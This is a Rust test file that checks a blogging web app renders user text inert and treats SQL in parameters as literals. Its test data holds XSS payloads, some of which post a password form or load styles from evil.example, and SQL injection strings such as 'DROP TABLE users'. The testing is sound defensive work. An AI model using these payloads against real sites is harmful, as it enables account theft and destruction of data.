//! Tests that text by users is never interpreted as markup.

use scraper::Selector;

use crate::persona::{Answer, Site};

const HOSTILE: &[&str] = &[
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<!--<script>alert(1)//",
];

/// Asserts that the page contains no element or attribute that runs code, other than leptos' own scripts.
#[track_caller]
fn assert_inert(answer: &Answer) {
    let page = answer.page();
    for element in page.select(&Selector::parse("*").unwrap()) {
        let name = element.value().name();
        assert!(
            !matches!(name, "iframe" | "object" | "embed" | "svg" | "math" | "base"),
            "{name} in {}",
            answer.body
        );
        assert!(
            name != "script" || element.attr("nonce").is_some(),
            "a script in {}",
            answer.body
        );
        for (attribute, value) in element.value().attrs() {
            assert!(!attribute.starts_with("on"), "{attribute} in {}", answer.body);
            let value = value.trim().to_ascii_lowercase();
            assert!(
                !value.starts_with("javascript:") && !value.starts_with("data:"),
                "{value} in {}",
                answer.body
            );
        }
    }
}

#[tokio::test]
async fn a_hostile_title_is_text_on_every_page() {
    let site = Site::new().await;
    let ada = site.member("ada").await;
    for title in HOSTILE.iter().copied() {
        let address = ada.publish(title, "text").await;
        for path in [address.as_str(), "/", "/user/ada"] {
            assert_inert(&ada.get(path).await);
        }
        let post = ada.get(&address).await;
        assert_eq!(post.text("title"), format!("{title} · Broadsheet"));
        assert_eq!(post.text("h1"), title);
    }
}

#[tokio::test]
async fn hostile_content_is_sanitised_on_every_page() {
    let site = Site::new().await;
    let ada = site.member("ada").await;
    for content in HOSTILE.iter().copied().chain([
        "[x](javascript:alert(1))",
        "![x](data:image/svg+xml,x)",
        "<a href='javascript:x'>y</a>",
    ]) {
        let address = ada.publish("A title", &format!("text {content}")).await;
        for path in [address.as_str(), "/", "/user/ada"] {
            assert_inert(&ada.get(path).await);
        }
    }
}

#[tokio::test]
async fn a_hostile_form_comes_back_as_text() {
    let site = Site::new().await;
    let ada = site.member("ada").await;
    for text in HOSTILE.iter().copied() {
        let answer = ada.post("/post/new", &[("title", ""), ("content", text)]).await;
        assert_eq!(answer.status, 422);
        assert_inert(&answer);
        assert_eq!(answer.text("#content"), text);

        let answer = site
            .visitor()
            .post("/register", &[("username", text), ("email", text)])
            .await;
        assert_inert(&answer);
        assert_eq!(answer.attributes("#username", "value"), [text]);
    }
}

#[tokio::test]
async fn hostile_addresses_are_text() {
    let site = Site::new().await;
    for text in HOSTILE {
        let escaped: String = form_urlencoded::byte_serialize(text.as_bytes()).collect();
        for path in ["/user/", "/post/", "/login?next=", "/?page=", "/nowhere/"] {
            assert_inert(&site.visitor().get(&format!("{path}{escaped}")).await);
        }
        let visitor = site.visitor();
        visitor.set_cookie("flash", &escaped);
        let home = visitor.get("/").await;
        assert_inert(&home);
        assert_eq!(home.text(".flash"), "");
    }
}

#[tokio::test]
async fn sql_in_any_parameter_is_a_literal() {
    let site = Site::new().await;
    let ada = site.member("ada").await;
    ada.publish("A title", "text").await;
    for sql in [
        "' OR '1'='1",
        "ada'--",
        "\"; DROP TABLE users; --",
        "1 OR 1=1",
        "%' OR 1=1 --",
    ] {
        let answer = site
            .visitor()
            .post("/login", &[("login", sql), ("password", sql)])
            .await;
        assert_eq!(answer.status, 401, "{sql}");
        let escaped: String = form_urlencoded::byte_serialize(sql.as_bytes()).collect();
        let escaped = escaped.replace('+', "%20");
        for path in ["/user/", "/post/", "/?page="] {
            assert_eq!(
                site.visitor().get(&format!("{path}{escaped}")).await.status,
                404,
                "{path}{sql}"
            );
        }
    }
    assert_eq!(ada.get("/").await.texts(".card").len(), 1);
}

// XSS-04
#[tokio::test]
async fn hostile_text_is_inert_in_every_place_that_shows_text() {
    let site = Site::new().await;
    let ada = site.member("ada").await;
    let more = [
        "<img src=x onerror=alert(1)//",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
        "<form action=//evil.example><input name=password><button>x",
        "<base href=//evil.example>",
        "<style>@import '//evil.example'</style>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<div style=\"position:fixed\" onclick=alert(1)>x</div>",
        "[x]: javascript:alert(1)\n\n[x]",
        "![x](javascript:alert(1) \"onerror=alert(1)\")",
        "`</code><script>alert(1)</script>`",
        "```<script>\nx\n```",
        "<!--><script>alert(1)</script>-->",
        "# </h2><script>alert(1)</script>",
        "[^a]\n\n[^a]: <iframe srcdoc='<script>alert(1)</script>'>",
        "a|b\n-|-\n<script>alert(1)</script>|x",
    ];
    for text in HOSTILE.iter().copied().chain(more) {
        let title: String = text.replace(['\n', '\t'], " ").chars().take(150).collect();
        let about: String = text.chars().take(140).collect();
        let name: String = format!("A {}", title.chars().take(40).collect::<String>());
        let name = name.split_whitespace().collect::<Vec<_>>().join(" ");
        let fields = [
            ("username", "ada"),
            ("email", "ada@example.org"),
            ("about", &about),
            ("display_name", &name),
            ("pronouns", &title.chars().take(30).collect::<String>()),
            ("location", &title.chars().take(60).collect::<String>()),
            ("biography", text),
        ];
        ada.post("/account", &fields).await.redirects_to("/account");
        assert_eq!(ada.get("/user/ada").await.text("h1"), name);
        for (field, address) in [("website", text), ("links", text)] {
            let refused = [
                ("username", "ada"),
                ("email", "ada@example.org"),
                (field, address),
            ];
            let answer = ada.post("/account", &refused).await;
            assert_eq!(answer.status, 422, "{text}");
            assert_inert(&answer);
        }
        let address = ada.publish(&title, &format!("seen\n\n{text}")).await;
        let id = shared::paths::post_id(address.rsplit('/').next().unwrap()).unwrap();
        let draft = ada
            .post(
                "/post/new",
                &[("title", &title), ("content", text), ("intent", "save")],
            )
            .await
            .location();
        let preview = [
            ("title", title.as_str()),
            ("content", text),
            ("intent", "preview"),
        ];
        assert_inert(&ada.post("/post/new", &preview).await);
        let escaped: String = form_urlencoded::byte_serialize(text.as_bytes()).collect();
        for path in [
            &address,
            "/",
            "/user/ada",
            "/explore",
            &format!("/explore?q={escaped}"),
            &draft,
            "/account",
            "/account/drafts",
            &format!("/post/update?post={id}"),
            &format!("/post/delete?post={id}"),
        ] {
            assert_inert(&ada.get(path).await);
        }
        let shown = ada.get(&address).await;
        for forbidden in [
            "form",
            "input",
            "style",
            "base",
            "[style]",
            "[onerror]",
            "[onclick]",
        ] {
            assert!(
                shown.texts(&format!(".prose {forbidden}")).is_empty(),
                "{forbidden}: {text}"
            );
        }
        ada.post("/post/trash", &[("id", &id.to_string())]).await;
        assert_inert(&ada.get("/account/trash").await);
        ada.post("/draft/discard", &[("id", draft.rsplit('=').next().unwrap())])
            .await;
    }
}

// INJ-01
#[tokio::test]
async fn sql_in_the_parameters_of_posts_and_writers_is_a_literal() {
    let site = Site::new().await;
    let ada = site.member("ada").await;
    for sql in [
        "' OR '1'='1",
        "x'; DELETE FROM posts; --",
        "%",
        "_",
        "\\",
        "\"",
        "1)) UNION SELECT 1 --",
    ] {
        let address = ada.publish(sql, sql).await;
        assert_eq!(ada.get(&address).await.text("h1"), sql);
        let escaped: String = form_urlencoded::byte_serialize(sql.as_bytes()).collect();
        let found = ada.get(&format!("/explore?q={escaped}")).await;
        assert_eq!(
            (found.status.as_u16(), found.texts(".author").len()),
            (200, 0),
            "{sql}"
        );
        for path in [
            "/post/update?post=",
            "/post/delete?post=",
            "/post/new?draft=",
            "/account/trash?page=",
        ] {
            assert_eq!(
                ada.get(&format!("{path}{escaped}")).await.status,
                404,
                "{path}{sql}"
            );
        }
        for path in ["/post/trash", "/post/restore", "/draft/discard"] {
            let status = ada.post(path, &[("id", sql)]).await.status;
            assert!(status.is_client_error(), "{path} {sql}: {status}");
        }
        let fields = [("title", sql), ("content", sql), ("draft", sql), ("post", sql)];
        assert_eq!(ada.post("/post/new", &fields).await.status, 400, "{sql}");
    }
    assert_eq!(ada.get("/?page=2").await.texts(".card").len(), 2);
}
